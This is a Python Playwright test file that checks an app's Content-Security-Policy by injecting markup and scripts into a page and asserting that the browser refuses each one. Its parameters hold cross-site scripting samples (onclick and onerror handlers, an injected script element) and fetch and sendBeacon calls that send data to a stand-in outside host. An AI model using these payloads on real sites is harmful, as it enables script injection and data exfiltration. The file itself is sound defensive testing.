"""Text that gets into a page as HTML runs nothing, fetches nothing and frames nothing. Every other browser test shows
that the app's own scripts do run: it fails if its page logs that something was refused."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Route

from graphmap.app.headers import policy_of

_PAGE = "<!doctype html><title>x</title><script>window.ours = 1</script>"
_ELSEWHERE = "https://elsewhere.example/"
_WATCHED = """() => {
    window.refused = new Promise((found) =>
        document.addEventListener("securitypolicyviolation", (event) => found(event.effectiveDirective)));
}"""
_PUT_IN = """(markup) => {
    const inside = document.createElement("div");
    inside.innerHTML = markup;
    document.body.append(inside);
    inside.querySelector("button")?.click();
}"""


@pytest.fixture
def guarded(chromium: Browser) -> Iterator[Page]:
    """A page with our policy. It isn't watched, as it logs what it refuses."""

    def answer(route: Route) -> None:
        assert not route.request.url.startswith(_ELSEWHERE)
        headers = {"Content-Type": "text/html", "Content-Security-Policy": policy_of(_PAGE)}
        route.fulfill(body=_PAGE, headers=headers)

    page = chromium.new_page()
    page.route("**", answer)
    page.goto("http://localhost/")
    page.evaluate(_WATCHED)
    yield page
    assert page.evaluate("window.hacked") is None
    page.context.close()


def test_the_page_s_own_script_runs(guarded: Page) -> None:
    assert guarded.evaluate("window.ours") == 1


@pytest.mark.parametrize(
    ("markup", "refused"),
    [
        (f"<img src='{_ELSEWHERE}x.png'>", "img-src"),
        (f"<iframe src='{_ELSEWHERE}'></iframe>", "frame-src"),
        ("<button onclick='window.hacked = 1'>x</button>", "script-src-attr"),
        ("<img src=data:, onerror='window.hacked = 1'>", "script-src-attr"),
        (f"<object data='{_ELSEWHERE}x'></object>", "object-src"),
        (f"<base href='{_ELSEWHERE}'>", "base-uri"),
        (f"<form action='{_ELSEWHERE}'><button>x</button></form>", "form-action"),
        ("<style>b { background: url(https://elsewhere.example/x) }</style><b>x</b>", "img-src"),
    ],
)
def test_markup_that_gets_in_runs_nothing_and_asks_no_other_site(guarded: Page, markup: str, refused: str) -> None:
    guarded.evaluate(_PUT_IN, markup)
    assert guarded.evaluate("window.refused") == refused


@pytest.mark.parametrize(
    ("script", "refused"),
    [
        (f"fetch('{_ELSEWHERE}').catch(() => {{}})", "connect-src"),
        ("navigator.sendBeacon('https://elsewhere.example/', 'names')", "connect-src"),
        (
            "document.body.append(Object.assign(document.createElement('script'), {text: 'hacked = 1'}))",
            "script-src-elem",
        ),
    ],
)
def test_a_script_that_got_in_tells_no_other_site(guarded: Page, script: str, refused: str) -> None:
    guarded.evaluate(script)
    assert guarded.evaluate("window.refused") == refused
